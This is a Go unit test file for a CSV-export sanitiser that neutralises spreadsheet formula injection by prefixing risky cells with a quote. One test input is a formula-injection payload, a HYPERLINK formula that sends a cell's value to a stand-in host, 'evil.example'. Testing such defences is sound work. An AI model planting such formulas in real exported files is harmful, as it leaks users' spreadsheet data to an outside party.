package safecsv_test

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/assessbot/assessbot/internal/safecsv"
)

func TestCell(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{`=HYPERLINK("https://evil.example/?leak="&A1,"click")`, `'=HYPERLINK("https://evil.example/?leak="&A1,"click")`},
		{"+1+cmd", "'+1+cmd"},
		{"-2+3", "'-2+3"},
		{"-3", "'-3"}, // typed text: neutralised even when it reads as a number
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"plain words", "plain words"},
		{"a=b", "a=b"},
		{"", ""},
		{"'already", "'already"},
		{"'=typed with a quote", "''=typed with a quote"},
	} {
		if got := safecsv.Cell(c.in); got != c.want {
			t.Errorf("Cell(%q) = %q, want %q", c.in, got, c.want)
		}
		if back := safecsv.Plain(safecsv.Cell(c.in)); back != c.in {
			t.Errorf("Plain(Cell(%q)) = %q", c.in, back)
		}
	}
}

// A numeric column keeps the numbers the product formatted, negative ones
// included, and neutralises anything else; other columns neutralise all.
func TestWriterNumericColumns(t *testing.T) {
	var buf bytes.Buffer
	w := safecsv.NewWriter(&buf, 1)
	for _, rec := range [][]string{
		{"-3", "-3"},
		{"=1+1", "=1+1"},
		{"-0.2500", "-0.2500"},
		{"x", "-2+3"},
	} {
		if err := w.Write(rec); err != nil {
			t.Fatal(err)
		}
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	got, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"'-3", "-3"}, {"'=1+1", "'=1+1"}, {"'-0.2500", "-0.2500"}, {"x", "'-2+3"}}
	for i := range want {
		for j := range want[i] {
			if got[i][j] != want[i][j] {
				t.Errorf("row %d cell %d = %q, want %q", i, j, got[i][j], want[i][j])
			}
		}
	}
}

func TestComment(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"q1: How well, do we know: 1 | 2", "# q1: How well, do we know: 1 | 2"},
		{"q1: text,=HYPERLINK(1);@x", "# q1: text,'=HYPERLINK(1);'@x"},
		{`example,"=1+1",-2`, `# example,"'=1+1",'-2`},
		{"=first", "# =first"}, // the line itself starts with #
	} {
		if got := safecsv.Comment(c.in); got != c.want {
			t.Errorf("Comment(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}
